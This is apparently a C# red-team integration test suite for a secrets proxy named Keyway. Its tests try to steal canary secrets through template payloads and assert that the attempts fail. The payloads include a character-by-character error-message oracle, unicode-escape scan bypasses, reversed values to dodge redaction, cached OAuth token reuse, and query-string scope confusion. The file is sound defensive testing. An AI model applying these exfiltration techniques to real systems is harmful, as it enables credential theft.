using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Keyway.Tests.Infrastructure;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;

namespace Keyway.Tests.Integration.Adversarial;

/// <summary>
/// Who may point a secret where, tried again as an attacker would after the authoring rights,
/// attachment and origin binding were built: an editor, a holder of <c>attach</c> on a bound secret
/// and a builder try to read a canary secret or send it where it is not bound. What the upstreams
/// received is checked, not only Keyway's answers.
/// </summary>
[Trait("Category", "Integration")]
public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKeyway>, IAsyncLifetime
{
    private UpstreamServer _attacker = null!;

    private HttpClient Admin => fixture.Admin;

    public async Task InitializeAsync() => _attacker = await UpstreamServer.StartAsync();

    public async Task DisposeAsync() => await _attacker.DisposeAsync();

    /// <summary>
    /// The sandbox keeps "Cannot read properties of undefined (reading 'X')" whenever X appears
    /// anywhere in the expression: an expression that holds every <c>k32</c>…<c>k126</c> and reads
    /// <c>'k' + secret.charCodeAt(i)</c> of undefined is told the i-th character. The editor reaches
    /// the attached secret through a unicode escape, which the save-time scan does not see.
    /// </summary>
    [Fact]
    public async Task An_editor_cannot_spell_out_an_attached_secret_through_the_names_kept_in_template_errors()
    {
        var (canary, value) = await fixture.CanaryAsync();
        var resource = KeywayFixture.Unique("oracle");
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
        var (name, editor) = await fixture.MemberAsync();
        await Grant(resource, name, "edit");
        var alphabet = string.Concat(Enumerable.Range(32, 95).Select(c => "k" + c));

        var recovered = new StringBuilder();
        var refusals = new List<string>();
        for (var i = 0; i < value.Length; i++)
        {
            var probe = $"{{{{ [(void 0)['k' + \\u0065nvironment.variables.{canary}.charCodeAt({i})], '{alphabet}'][1] }}}}";
            var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
                Actors.Resource(fixture.Upstream.BaseUrl, new JsonObject { ["X-Probe"] = probe }, Actors.Bearer(canary)));
            if (!save.IsSuccessStatusCode)
            {
                refusals.Add(await save.Content.ReadAsStringAsync());
                break;
            }

            var run = await editor.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/oracle" });
            var body = await run.Content.ReadAsStringAsync();
            if (Regex.Match(body, @"reading 'k(?<code>\d+)'") is not { Success: true } match)
            {
                refusals.Add(body);
                break;
            }

            recovered.Append((char)int.Parse(match.Groups["code"].Value, System.Globalization.CultureInfo.InvariantCulture));
        }

        Assert.True(recovered.ToString() != value,
            $"The editor read the secret '{canary}' one character per run from template error messages: '{recovered}'.");
        Assert.NotEmpty(refusals);
        Assert.DoesNotContain(value, string.Join("\n", refusals));
    }

    /// <summary>
    /// A secret bound to the token endpoint's origin, used as an OAuth client secret, is attached to the
    /// resource; an editor adds a header reading it through a unicode escape. Requests to the base URL
    /// are checked against the bindings of the variables the request templates name, and the escaped
    /// one names none: the client secret goes to the API's origin.
    /// </summary>
    [Fact]
    public async Task An_editor_cannot_send_a_client_secret_bound_to_the_token_endpoint_to_the_api_origin()
    {
        await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
            Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
        var (canary, value) = await fixture.CanaryAsync();
        await Bind(canary, tokens.BaseUrl);
        var resource = KeywayFixture.Unique("oauth");
        var auth = new JsonObject
        {
            ["type"] = "oauth2",
            ["grant"] = "client_credentials",
            ["tokenUrl"] = tokens.BaseUrl + "/token",
            ["clientId"] = "keyway",
            ["clientSecret"] = $"{{{{ environment.variables.{canary} }}}}",
        };
        // The API lives on another origin than the token endpoint: the client secret is bound away from it.
        await fixture.PutResourceAsync(resource, Actors.Resource(_attacker.BaseUrl, null, auth));
        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/before" }), 200);
        var (name, editor) = await fixture.MemberAsync();
        await Grant(resource, name, "edit");

        var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
            Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-Leak"] = $"{{{{ String(\\u0065nvironment.variables.{canary}) }}}}" }, (JsonObject)auth.DeepClone()));
        var run = save.IsSuccessStatusCode
            ? await editor.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/after" })
            : null;

        // The legitimate path worked: a token was fetched from the bound origin and only the token went to the API.
        Assert.Contains(tokens.Requests, r => r.Path == "/token");
        Assert.StartsWith("Bearer at-", _attacker.Requests.First(r => r.Path == "/before").Headers["Authorization"]);
        Assert.True(!_attacker.Requests.Any(r => r.Headers.Values.Any(v => v.Contains(value, StringComparison.Ordinal))),
            $"The client secret bound to {tokens.BaseUrl} reached the API origin {_attacker.BaseUrl} in X-Leak (save {(int)save.StatusCode}, run {(int?)run?.StatusCode}).");
    }

    /// <summary>
    /// Redaction knows the value's encodings, not what a script made of it: an editor adds a header
    /// carrying the attached secret reversed (reached through a unicode escape), and the resource's own
    /// upstream, which reflects request headers as many APIs' error pages do, hands it back in /run.
    /// </summary>
    [Fact]
    public async Task An_editor_cannot_read_an_attached_secret_back_from_an_upstream_that_reflects_headers()
    {
        var (canary, value) = await fixture.CanaryAsync();
        await Bind(canary, fixture.Upstream.BaseUrl);
        var resource = KeywayFixture.Unique("mirror");
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
        var (name, editor) = await fixture.MemberAsync();
        await Grant(resource, name, "edit");

        var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(fixture.Upstream.BaseUrl,
            new JsonObject { ["X-Mirror"] = $"{{{{ \\u0065nvironment.variables.{canary}.split('').reverse().join('') }}}}" }, Actors.Bearer(canary)));
        var body = save.IsSuccessStatusCode
            ? await (await editor.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/echo-header/X-Mirror" })).Content.ReadAsStringAsync()
            : await save.Content.ReadAsStringAsync();

        var reversed = new string(value.Reverse().ToArray());
        Assert.True(!body.Contains(reversed, StringComparison.Ordinal),
            $"The editor read the attached secret, reversed, from /run: {body}");
    }

    /// <summary>
    /// <c>attach</c> on a secret bound to an origin lets its holder send it there, not read it. A
    /// javascript step that returns a property named after the value (reversed, so no redaction knows
    /// it) fails with "the returned property '…' is not a usable variable name", quoting the name.
    /// </summary>
    [Fact]
    public async Task A_holder_of_attach_on_a_bound_secret_cannot_read_it_through_a_javascript_steps_error()
    {
        var (canary, value) = await fixture.CanaryAsync();
        await Bind(canary, fixture.Upstream.BaseUrl);
        var (name, builder) = await fixture.BuilderAsync();
        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "attach", variable = canary, user = name }), 201);
        var resource = KeywayFixture.Unique("named");
        var flow = new JsonObject
        {
            ["type"] = "custom",
            ["steps"] = new JsonArray(new JsonObject
            {
                ["type"] = "javascript",
                ["name"] = "spell",
                ["code"] = $"return {{ ['-' + environment.variables.{canary}.split('').reverse().join('')]: 1 }};",
            }),
            ["apply"] = new JsonObject { ["headers"] = new JsonObject { ["X-A"] = "{{ A }}" } },
            ["lifetimeSeconds"] = 60,
        };

        var save = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(fixture.Upstream.BaseUrl, null, flow));
        var run = save.IsSuccessStatusCode ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/named" }) : save;
        var test = save.IsSuccessStatusCode ? await builder.PostAsync($"/api/v1/resources/{resource}/test", null) : save;
        var bodies = await run.Content.ReadAsStringAsync() + "\n" + await test.Content.ReadAsStringAsync();

        var reversed = new string(value.Reverse().ToArray());
        Assert.True(!bodies.Contains(reversed, StringComparison.Ordinal),
            $"The holder of attach on '{canary}' read it, reversed, from the flow's error: {bodies}");
        Assert.DoesNotContain(_attacker.Requests, r => true);
    }

    /// <summary>
    /// An owner without <c>attach</c> may not move a resource whose client secret they could not attach
    /// (<c>auth.clientSecret</c> is refused). Dropping the client secret in the same save passes the
    /// check, and the token parameters' hash leaves the client secret out on purpose, so the access token
    /// minted with the admin's client secret is reused and sent to the owner's server.
    /// </summary>
    [Fact]
    public async Task An_owner_who_drops_the_client_secret_to_move_a_resource_does_not_take_the_token_it_minted()
    {
        await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
            Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
        var (canary, _) = await fixture.CanaryAsync();
        var resource = KeywayFixture.Unique("minted");
        var auth = OAuth(tokens, canary);
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, auth));
        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/minted" }), 200);
        var token = fixture.Upstream.Requests.Single(r => r.Path == "/minted").Headers["Authorization"];
        var (name, owner) = await fixture.MemberAsync();
        await Grant(resource, name, "own");

        var moved = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, (JsonObject)auth.DeepClone()));
        var stripped = (JsonObject)auth.DeepClone();
        stripped.Remove("clientSecret");
        var movedWithout = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, stripped));
        var run = movedWithout.IsSuccessStatusCode
            ? await owner.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/stolen" })
            : movedWithout;

        await Expect.ProblemAsync(moved, 403, "forbidden");
        Assert.True(!_attacker.Requests.Any(r => r.Headers.TryGetValue("Authorization", out var a) && a == token),
            $"The owner moved the resource by dropping the client secret (save {(int)movedWithout.StatusCode}, run {(int)run.StatusCode}) " +
            $"and their server received the access token minted with it: {token}.");
    }

    /// <summary>
    /// Deleting a resource deletes its stored credentials, but the engine's in-memory cache is keyed by
    /// resource name and token parameters (which leave the client secret out): a builder who creates a
    /// resource under the deleted one's name, with the same token endpoint and client id, no client
    /// secret and their own base URL, is handed the deleted resource's access token.
    /// </summary>
    [Fact]
    public async Task A_builder_who_recreates_a_deleted_resource_does_not_inherit_its_access_token()
    {
        await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
            Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
        var (canary, _) = await fixture.CanaryAsync();
        var resource = KeywayFixture.Unique("reborn");
        var auth = OAuth(tokens, canary);
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, auth));
        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/reborn" }), 200);
        var token = fixture.Upstream.Requests.Single(r => r.Path == "/reborn").Headers["Authorization"];
        Assert.Equal(System.Net.HttpStatusCode.NoContent, (await Admin.DeleteAsync($"/api/v1/resources/{resource}")).StatusCode);
        var (_, builder) = await fixture.BuilderAsync();

        var stripped = (JsonObject)auth.DeepClone();
        stripped.Remove("clientSecret");
        var created = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, stripped));
        var run = created.IsSuccessStatusCode
            ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/inherited" })
            : created;

        Assert.True(!_attacker.Requests.Any(r => r.Headers.TryGetValue("Authorization", out var a) && a == token),
            $"A builder recreated '{resource}' (save {(int)created.StatusCode}, run {(int)run.StatusCode}) and their server received the deleted resource's access token {token}.");
    }

    /// <summary>
    /// A key scoped to one environment "does not edit, delete or grant on resources" (docs/security.md):
    /// a resource's configuration belongs to every environment. The access filter reads the environment
    /// from <c>?environment=</c> on every route, so naming the key's own environment in the query string
    /// of a resource route makes the scope check pass where the handler does not demand again.
    /// </summary>
    [Fact]
    public async Task A_key_scoped_to_one_environment_neither_deletes_nor_grants_on_a_resource_by_naming_that_environment()
    {
        var staging = KeywayFixture.Unique("stg");
        await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
        var resource = KeywayFixture.Unique("kept");
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, null));
        var (owner, _) = await fixture.MemberAsync();
        await Grant(resource, owner, "own");
        var (friend, _) = await fixture.MemberAsync();
        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys",
            new { name = "staging-only", owner, scopes = new { environments = new[] { staging } } }), 201);
        using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);

        await Expect.ProblemAsync(await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user = friend, permission = "own" }), 403, "forbidden");
        await Expect.ProblemAsync(await scoped.DeleteAsync($"/api/v1/resources/{resource}"), 403, "forbidden");
        var granted = await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions?environment={staging}", new { user = friend, permission = "own" });
        var deleted = await scoped.DeleteAsync($"/api/v1/resources/{resource}?environment={staging}");

        Assert.True((int)granted.StatusCode == 403 && (int)deleted.StatusCode == 403,
            $"The staging-scoped key granted 'own' on '{resource}' ({(int)granted.StatusCode} {await granted.Content.ReadAsStringAsync()}) " +
            $"and deleted it ({(int)deleted.StatusCode}).");
        await Expect.StatusAsync(await Admin.GetAsync($"/api/v1/resources/{resource}"), 200);
    }

    /// <summary>
    /// A member who owns a resource in staging only grants themselves <c>own</c> in every environment:
    /// the permissions route is checked against <c>?environment=</c>, and the grant it writes is for the
    /// body's environment (every one, when left out).
    /// </summary>
    [Fact]
    public async Task An_owner_in_one_environment_cannot_grant_themselves_every_environment()
    {
        var staging = KeywayFixture.Unique("stg");
        await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
        var (canary, value) = await fixture.CanaryAsync();
        var resource = KeywayFixture.Unique("staged");
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
        var (name, member) = await fixture.MemberAsync();
        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions",
            new { user = name, permission = "own", environment = staging }), 201);
        await Expect.ProblemAsync(await member.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/prod-before" }), 403, "forbidden");

        var granted = await member.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions?environment={staging}", new { user = name, permission = "own" });
        var run = await member.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/prod-after" });

        Assert.True(!granted.IsSuccessStatusCode && !run.IsSuccessStatusCode,
            $"A staging-only owner granted themselves {await granted.Content.ReadAsStringAsync()} and then ran the resource in production ({(int)run.StatusCode}).");
        Assert.DoesNotContain(fixture.Upstream.Requests, r => r.Path == "/prod-after");
        _ = value;
    }

    /// <summary>
    /// The same query-string environment lets an admin's staging-scoped key create a resource, which
    /// the admin's rights let attach any secret: a stolen staging key then sends every unbound staging
    /// secret to a server of the thief's.
    /// </summary>
    [Fact]
    public async Task A_key_scoped_to_one_environment_cannot_create_a_resource_that_sends_that_environments_secrets_away()
    {
        var staging = KeywayFixture.Unique("stg");
        await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
        var canary = "CANARY_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
        var value = "canary-" + Guid.NewGuid().ToString("N");
        await fixture.SetVariableAsync(canary, value, secret: true, environment: staging);
        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys",
            new { name = "staging-only", scopes = new { environments = new[] { staging } } }), 201);
        using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);
        var resource = KeywayFixture.Unique("stolen");
        var definition = Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null);

        await Expect.ProblemAsync(await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 403, "forbidden");
        var created = await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}?environment={staging}", definition);
        var run = created.IsSuccessStatusCode
            ? await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/staging", environment = staging })
            : created;

        var leaked = _attacker.Requests.Any(r => r.Headers.Values.Any(v => v.Contains(value, StringComparison.Ordinal)));
        Assert.True(!created.IsSuccessStatusCode && !leaked,
            $"The staging-scoped key created '{resource}' ({(int)created.StatusCode}); run {(int)run.StatusCode}; the attacker's server received the staging secret: {leaked}.");
    }

    /// <summary>
    /// A builder's new resource is given only the secrets they may attach: however a template reaches
    /// for the variables (through the global object, <c>this</c>, a computed name, every value at once),
    /// it finds only plain ones, and the attacker's server receives no secret.
    /// </summary>
    [Theory]
    [InlineData("{{ JSON.stringify(globalThis['envi' + 'ronment']) }}")]
    [InlineData("{{ JSON.stringify(Object.values(\\u0065nvironment.variables)) }}")]
    [InlineData("{{ JSON.stringify(\\u0065nvironment['vari' + 'ables']) }}")]
    [InlineData("{{ (function () { return JSON.stringify(this) })() }}")]
    [InlineData("{{ JSON.stringify(Object.getOwnPropertyNames(globalThis).map(n => [n, typeof globalThis[n] === 'object' ? JSON.stringify(globalThis[n]) : ''])) }}")]
    public async Task A_builders_template_that_reaches_for_every_variable_without_naming_one_finds_no_secret(string template)
    {
        var (_, value) = await fixture.CanaryAsync();
        var (_, builder) = await fixture.BuilderAsync();
        var resource = KeywayFixture.Unique("reach");

        var save = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}",
            Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-All"] = template }, null));
        var run = save.IsSuccessStatusCode ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/reach" }) : save;
        var body = await run.Content.ReadAsStringAsync();

        Assert.DoesNotContain(value, body);
        Assert.DoesNotContain(value[7..], body);
        Assert.DoesNotContain(_attacker.Requests, r => r.Headers.Values.Append(r.Body).Any(v => v.Contains(value[7..], StringComparison.Ordinal)));
    }

    /// <summary>
    /// A holder of <c>use</c> writes a saved query whose templates name the secret: query templates see
    /// plain variables only, so the upstream receives nothing of it.
    /// </summary>
    [Fact]
    public async Task A_users_saved_query_that_names_a_secret_sends_nothing_of_it()
    {
        var (canary, value) = await fixture.CanaryAsync();
        var resource = KeywayFixture.Unique("queried");
        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
        var (name, user) = await fixture.MemberAsync();
        await Grant(resource, name, "use");
        var query = KeywayFixture.Unique("q");

        var save = await user.PutAsJsonAsync($"/api/v1/queries/{query}", new
        {
            resource,
            method = "POST",
            path = "/query",
            headers = new Dictionary<string, string> { ["X-Q"] = $"{{{{ \\u0065nvironment.variables.{canary} }}}}" },
            body = new { type = "text", text = $"{{{{ JSON.stringify(environment.variables) }}}}|{{{{ environment.variables.{canary} }}}}" },
        });
        var run = save.IsSuccessStatusCode ? await user.PostAsJsonAsync($"/api/v1/queries/{query}/run", new { }) : save;
        var body = await run.Content.ReadAsStringAsync();

        Assert.DoesNotContain(value[7..], body);
        Assert.DoesNotContain(fixture.Upstream.Requests.Where(r => r.Path == "/query"),
            r => r.Headers.Where(h => h.Key != "Authorization").Select(h => h.Value).Append(r.Body).Any(v => v.Contains(value[7..], StringComparison.Ordinal)));
    }

    private async Task Grant(string resource, string user, string permission) =>
        await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user, permission }), 201);

    private async Task Bind(string variable, string origin) =>
        await Expect.StatusAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{variable}/origins",
            new { origins = new[] { origin } }), 200);

    private static JsonObject OAuth(UpstreamServer tokens, string clientSecretVariable) => new()
    {
        ["type"] = "oauth2",
        ["grant"] = "client_credentials",
        ["tokenUrl"] = tokens.BaseUrl + "/token",
        ["clientId"] = "keyway",
        ["clientSecret"] = $"{{{{ environment.variables.{clientSecretVariable} }}}}",
    };
}
